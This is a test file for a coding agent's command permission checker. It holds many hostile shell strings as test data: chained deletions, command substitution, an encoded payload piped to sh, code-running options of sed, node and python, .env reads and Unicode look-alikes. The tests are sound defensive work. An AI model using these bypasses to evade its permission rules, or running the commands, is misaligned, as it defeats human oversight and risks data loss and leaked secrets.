import { verifies } from '@qwen/testkit';
import { expect, test } from 'vitest';
import { edits, ruleSet, runs } from '../../test/calls.js';
import { decide } from './decide.js';

const behaviour = (rules: Parameters<typeof ruleSet>[0], command: string, mode: 'default' | 'yolo') =>
  decide({ mode, rules: ruleSet(rules), call: runs(command) }).behavior;

/** What an allow rule makes of a command in mode default. */
const allowing = (rule: string, command: string) => behaviour({ allow: [rule] }, command, 'default');
/** What a deny rule makes of a command in mode yolo. */
const denying = (rule: string, command: string) => behaviour({ deny: [rule] }, command, 'yolo');

/** The commands that are judged otherwise than they should be. */
const wrong = (verdict: string, judge: (command: string) => string, commands: readonly string[]): string[] =>
  commands.filter((command) => judge(command) !== verdict);

test('spaces and quotes in a deny rule do not disable it, and one for Write applies to edits', () => {
  verifies('S16');
  for (const rule of [
    'Bash(npm  test)',
    'Bash(npm\ttest *)',
    'Bash("npm" test)',
    "Bash(npm 'test')",
    'Bash("npm test")',
  ]) {
    expect([rule, denying(rule, 'npm test'), denying(rule, 'sudo npm test')]).toEqual([rule, 'deny', 'deny']);
    expect(denying(rule, 'npm run build')).toBe('allow');
  }
  const editing = (rules: Parameters<typeof ruleSet>[0]) =>
    decide({ mode: 'auto-edit', rules: ruleSet(rules), call: edits('src/a.ts') }).behavior;
  expect(editing({ deny: ['Write(/src/**)'] })).toBe('deny');
  expect(editing({ ask: ['Write(/src/**)'] })).toBe('ask');
  expect(editing({ deny: ['Write(/lib/**)'] })).toBe('allow');
});

test('a program may be called as a member of every object', () => {
  const programs = ['constructor', '__proto__', './constructor'];
  expect(wrong('allow', (program) => denying('Bash(npm test)', `${program} -x`), programs)).toEqual([]);
  expect(denying('Read(.env)', 'constructor -x a')).toBe('allow');
});

test('an allow rule matches whole words only', () => {
  verifies('S15');
  const rows: readonly (readonly [rule: string, command: string, verdict: string])[] = [
    ['Bash(git log)', 'git log', 'allow'],
    ['Bash(git log)', 'git logout', 'ask'],
    ['Bash(npm run)', 'npm run -s', 'ask'],
    ['Bash(git log:*)', 'git log -1', 'allow'],
    ['Bash(git log:*)', 'git log', 'allow'],
    ['Bash(git log:*)', 'git logout', 'ask'],
    ['Bash(npm test)', 'npm testevil', 'ask'],
    ['Bash(npm test:*)', 'npm test-evil', 'ask'],
    ['Bash(git status:*)', 'git status-evil', 'ask'],
    ['Bash(git *)', 'git status', 'allow'],
    ['Bash(git *)', 'git', 'allow'],
    ['Bash(git *)', 'gitk', 'ask'],
    ['Bash(git *)', 'git push origin HEAD:main', 'allow'],
    ['Bash(git *)', 'git mv list HEAD', 'ask'],
    ['Bash(git * main)', 'git push origin main', 'allow'],
    ['Bash(git * main)', 'git push origin maintenance', 'ask'],
    ['Bash(npm run test*)', 'npm run test:unit', 'allow'],
    ['Bash(ls)', '  ls  ', 'allow'],
    ['Bash', 'anything | at all', 'allow'],
    ['Bash(*)', 'anything && else', 'allow'],
  ];
  for (const [rule, command, verdict] of rows) {
    expect(`${rule} ${command} → ${allowing(rule, command)}`).toBe(`${rule} ${command} → ${verdict}`);
  }
});

test('look-alikes and other paths are different commands', () => {
  verifies('S16');
  expect(
    wrong('ask', (command) => allowing('Bash(git status:*)', command), [
      './git status',
      '/tmp/git status',
      'g\u0456t status',
      'git\u200b status',
      'git\u00a0status',
      '\u00a0git status',
      '\ufeffgit status',
      'git status\u2003',
      'git status\u202e',
      'GIT status',
    ]),
  ).toEqual([]);
});

test('an allow rule matches simple commands only', () => {
  verifies('S15');
  expect(
    wrong('ask', (command) => allowing('Bash(git *)', command), [
      'git status; rm -rf y',
      'git status && rm y',
      'git status || rm y',
      'git status | sh',
      'git status & rm y',
      'git log > ~/.bashrc',
      'git log >> x',
      'git log $(rm y)',
      'git log `rm y`',
      'git log {a,b}',
      'git log (x)',
      'git log\nrm y',
      'git log\rrm y',
      'git "$(rm y)"',
      'git log "open',
      'X=1 git log',
      "g'i't log",
      'g\\it log',
      '"git" log',
      '',
      ' ',
    ]),
  ).toEqual([]);
  expect(
    wrong('allow', (command) => allowing('Bash(git *)', command), [
      'git commit -m "first try"',
      "git commit -m 'first try'",
      'git add src/*.ts',
      'git log --format=%H -- a/b.ts',
      'git log < x',
      'git log $HOME "${x}" $?',
      "git 'a;b'",
      'git log # rm',
      'git\tlog',
      'git \\\n  log',
    ]),
  ).toEqual([]);
});

test('a wide allow rule does not cover options that run programs or write files', () => {
  verifies('S13');
  const rows: readonly (readonly [rule: string, ...commands: string[]])[] = [
    [
      'Bash(sed *)',
      "sed '1{e touch pwned\n}' a",
      "sed 's/.*/touch pwned/e;p' a",
      "sed 's_a_touch pwned_e' a",
      "sed '1!e touch pwned' a",
      "sed '/h/Ie touch pwned' a",
      "sed 'W f' a",
      'sed wpwned a',
    ],
    ['Bash(sort *)', 'sort --co=./x a', 'sort --ou=b a'],
    [
      'Bash(tar *)',
      'tar --use=./x -tf a',
      'tar --index-file=b -tf a',
      'tar --create -f a b',
      'tar -rf a b',
      'tar -Af a b',
    ],
    ['Bash(git grep *)', 'git grep --op=./x a', 'git grep -O./x a'],
    ['Bash(git clone *)', 'git clone -u ./x y', 'git clone --config a=b ext::x'],
    [
      'Bash(git *)',
      'git format-patch -o x HEAD',
      'git fast-import --export-marks=x',
      'git checkout-index --prefix=x -a',
    ],
    ['Bash(uniq *)', 'uniq a b'],
    ['Bash(uniq *)', 'uniq -f 1 a b'],
    ['Bash(gh *)', "gh alias set x '!rm a'"],
    ['Bash(gh *)', 'gh extension install a/b'],
    ['Bash(java *)', "java -XX:OnError='rm a' X"],
    ['Bash(jobs *)', 'jobs -x rm a'],
    ['Bash(bat *)', "bat --pager 'rm a' b"],
    ['Bash(xxd *)', 'xxd a b'],
    ['Bash(xxd *)', 'xxd -l 4 a b'],
    ['Bash(xxd *)', 'xxd -r a b'],
    ['Bash(ptx *)', 'ptx -G a b'],
    ['Bash(pdftotext *)', 'pdftotext a.pdf b.txt'],
    ['Bash(awk *)', 'awk -f x', 'awk \'BEGIN{print > "x"}\''],
    ['Bash(mawk *)', 'mawk -f x', 'mawk \'BEGIN{system("x")}\'', 'mawk \'{print > "x"}\' a'],
    ['Bash(gsed *)', "gsed '1e x' a", 'gsed wpwned a'],
    ['Bash(git *)', 'git diagnose -o ../x', 'git bugreport -o ../x', 'git interpret-trailers --in-place a'],
    ['Bash(npm *)', 'npm exec -- x', 'npm x y', 'npm explore . -- x', 'npm config edit --editor=./x'],
    ['Bash(curl *)', 'curl -K - http://x', 'curl -sK- http://x', 'curl --config x', "curl -w '%output{x}y' http://x"],
    ['Bash(curl *)', 'curl -o.git/hooks/pre-commit http://x', 'curl --output=.npmrc http://x'],
    ['Bash(make *)', 'make --eval=x:;y', 'make -f -'],
    ['Bash(vim *)', "vim -es -c '!x'"],
    ['Bash(ed *)', 'ed -s a'],
    ['Bash(zip *)', 'zip y.zip a -T -TT x'],
    ['Bash(sqlite3 *)', "sqlite3 y '.shell x'"],
    ['Bash(split *)', 'split --filter=x a'],
    ['Bash(node *)', `node --eval='require("child_process").execSync("x")'`, `node -e'require("child_process")'`],
    ['Bash(python3 *)', `python3 -c'__import__("os").system("x")'`],
    ['Bash(go *)', 'go run -exec x a.go'],
  ];
  const covered = rows.flatMap(([rule, ...commands]) =>
    commands.filter((command) => allowing(rule, command) === 'allow'),
  );
  expect(covered).toEqual([]);
  expect(wrong('allow', (command) => allowing('Bash(sed *)', command), ["sed 's/a/b/' x", "sed -n '2p' x y"])).toEqual(
    [],
  );
  const usual: readonly (readonly [rule: string, command: string])[] = [
    ['Bash(git *)', 'git push -o ci.skip'],
    ['Bash(git commit *)', 'git commit -m"remove (exec)"'],
    ['Bash(npm *)', 'npm run build'],
    ['Bash(npm exec *)', 'npm exec -- x'],
    ['Bash(curl *)', 'curl -sSL -o y http://x'],
    ['Bash(make *)', 'make -j4 all'],
    ['Bash(python3 *)', 'python3 a.py --eval x'],
    ['Bash(python3 -c *)', "python3 -c 'print(1)'"],
    ['Bash(sqlite3 *)', "sqlite3 y 'select 1'"],
    ['Bash(go *)', 'go test ./...'],
  ];
  for (const [rule, command] of usual) expect([command, allowing(rule, command)]).toEqual([command, 'allow']);
  expect(wrong('allow', (command) => allowing('Bash(tar *)', command), ['tar tf a.tar', 'tar -tvf a.tar'])).toEqual([]);
});

test('a deny rule applies wherever the command is', () => {
  verifies('S17');
  expect(
    wrong('deny', (command) => denying('Bash(rm:*)', command), [
      'rm y',
      'rm',
      'cd x && rm -rf y',
      'cd x;rm -rf y',
      'true | xargs rm',
      'true | xargs -n 1 rm -f',
      '(rm y)',
      '{ rm y; }',
      'if true; then rm y; fi',
      'for f in *; do rm $f; done',
      'while true; do rm y; done',
      'f() { rm y; }; f',
      'case x in a) rm y;; esac',
      '! rm y',
      'time rm y',
      'sudo rm y',
      'env A=1 rm y',
      'A=1 B=2 rm y',
      'nohup rm y &',
      'timeout 5 rm y',
      'command rm y',
      'exec rm y',
      'find . -exec rm {} +',
      'sh -c "rm y"',
      "bash -c 'cd x; rm y'",
      'echo $(rm y)',
      'echo `rm y`',
      'echo "$(rm y)"',
      'cat <(rm y)',
      '>out rm y',
      '/bin/rm y',
      './rm y',
      "r'm' y",
      'r"m" y',
      'r\\m y',
      'r\\\nm y',
      'rm${IFS}y',
      'RM y',
      'echo ok\nrm y',
      'echo ok & rm y',
      'true || rm y',
      "$'\\x72m' y",
    ]),
  ).toEqual([]);
});

test('a deny rule asks in unclear cases and allows what it does not match', () => {
  verifies('S17');
  expect(
    wrong('ask', (command) => denying('Bash(rm:*)', command), [
      'X=rm; $X y',
      '$(echo rm) y',
      'eval "$CODE"',
      'echo cm0gLXJm | base64 -d | sh',
      '/bin/r? y',
      '{rm,y}',
      'alias x=rm',
      'source ./script',
      'python3 -c "import os; os.system(\'rm y\')"',
      'grep rm src | sh',
      'npm run clean rm',
      'sudo $X y',
      'r\u043c y',
      'BASH_ALIASES[q]=rm; shopt -s expand_aliases\nq y',
      "gcc -x c - <<< 'x' && ./a.out",
      'find . -name y -delete',
      'fd -x y; find y -type f -delete',
      'git clean -fdx',
      'git rm y',
      'tar cf x.tar --remove-files y',
      'tar c y --rem > x.tar',
      'gcc -wrapper ./x -c y.c',
      'gcc-12 -B. y.c',
      'wget -e use_askpass=./x https://example.com',
      'wget --exec=use_askpass=./x https://example.com',
      'zip -mq x.zip y',
      'zip --mov x.zip y',
      'shred -u y',
      'shred --rem y',
      'rsync -a --delete x/ y/',
    ]),
  ).toEqual([]);
  expect(
    wrong('ask', (command) => denying('Bash(git push:*)', command), ['git -C x push', 'git --no-pager push origin']),
  ).toEqual([]);
  expect(
    wrong('allow', (command) => denying('Bash(rm:*)', command), [
      'ls',
      'rmdir y',
      'npm run format',
      'find . -name y',
      'git status',
      'tar cf x.tar y',
      'zip -r x.zip y',
      'cat a | sort',
      'grep rm src',
      'echo "rm y"',
    ]),
  ).toEqual([]);
});

test('a build tool that runs files written by the same command asks, whatever its target', () => {
  verifies('S17');
  const judge = (command: string) => denying('Bash(rm:*)', command);
  expect(
    wrong('ask', judge, [
      "printf 'tsc:\\n\\trm -rf x\\n' > Makefile && make tsc",
      "printf 'black:\\n\\trm -rf x\\n' > Makefile && timeout 9 make black",
      'echo x > justfile && just ruff',
      'echo x > package.json && npm run eslint',
      'echo x > package.json && pnpm run tsc',
      'echo x > package.json && npx tsc',
      'echo x > .npmrc && npx tsc',
      'echo x > node_modules/typescript/lib/tsc.js && npx tsc',
      'echo x > a.js && npx x tsc',
      'echo x > eslint.config.js && eslint .',
      'echo x > prettier.config.js && npx prettier .',
      'echo x > oxlint.config.ts && oxlint',
      'echo x > plugin.py && mypy .',
      'echo x > click.py && python -m black .',
    ]),
  ).toEqual([]);
  expect(
    wrong('allow', judge, [
      'echo x > a.ts && tsc --noEmit',
      'echo x > a.ts && npx tsc --noEmit',
      'echo x > a.ts && npx --no-install tsc --noEmit',
      'echo x > a.ts && pnpm exec tsc --noEmit',
      'echo x > a.py && ruff check a.py',
      'make tsc',
      'npm run eslint',
    ]),
  ).toEqual([]);
});

test('no length leads to approval', () => {
  verifies('S18');
  for (const count of [51, 500, 5000]) {
    expect(denying('Bash(rm:*)', `${'true;'.repeat(count)} rm -rf y`)).toBe('deny');
  }
  expect(denying('Bash(rm:*)', `${'true;'.repeat(10_000)} rm -rf y`)).toBe('ask');
  expect(denying('Bash(rm:*)', `rm y; ${'true;'.repeat(10_000)}`)).toBe('deny');
  expect(denying('Bash(rm:*)', `rm ${'y '.repeat(45_000)}`)).toBe('deny');
  expect(allowing('Bash(git *)', 'git log;'.repeat(12_000))).toBe('ask');
  expect(allowing('Bash(git *)', `git log ${'y '.repeat(45_000)}`)).toBe('ask');
  expect(denying('Bash(rm:*)', `${'true;'.repeat(200_000)} rm -rf y`)).toBe('ask');
  expect(denying('Bash(rm:*)', `${'('.repeat(10_000)}rm y${')'.repeat(10_000)}`)).toBe('ask');
  expect(denying('Bash(rm:*)', `xargs ${'x '.repeat(600)} rm y`)).toBe('ask');
  expect(allowing('Bash(git *)', `git ${'x'.repeat(100_001)}`)).toBe('ask');
});

test('names and patterns of any length are judged', () => {
  verifies('S18');
  expect(denying('Read(.env)', `echo ${'*'.repeat(90_000)}`)).toBe('ask');
  expect(denying('Read(/a/**/b)', `git ${'/g'.repeat(45_000)}`)).toBe('allow');
  expect(denying('Bash(rm:*)', `sed '${'/e'.repeat(40_000)}'; rm x`)).toBe('deny');
});

test('files that a rule forbids are forbidden to commands too, as far as their arguments show', () => {
  expect(
    wrong('deny', (command) => denying('Read(.env)', command), [
      'cat .env',
      'cat ./deep/../.env',
      'cat "/w/app/.env"',
      'grep x --file=.env',
      'cat<.env',
      'cp .env /tmp/x',
    ]),
  ).toEqual([]);
  expect(
    wrong('deny', (command) => denying('Edit(/secret/**)', command), ['echo x > secret/key', 'cd secret && ls']),
  ).toEqual([]);
  expect(wrong('allow', (command) => denying('Read(.env)', command), ['cat .env.example', 'ls'])).toEqual([]);
});

test('an ask rule asks wherever the command is', () => {
  const asking = (command: string) => behaviour({ ask: ['Bash(git push:*)'] }, command, 'yolo');
  expect(wrong('ask', asking, ['git push', 'npm test && git push origin', 'sudo git push'])).toEqual([]);
  expect(wrong('allow', asking, ['git status', 'git pull'])).toEqual([]);
});
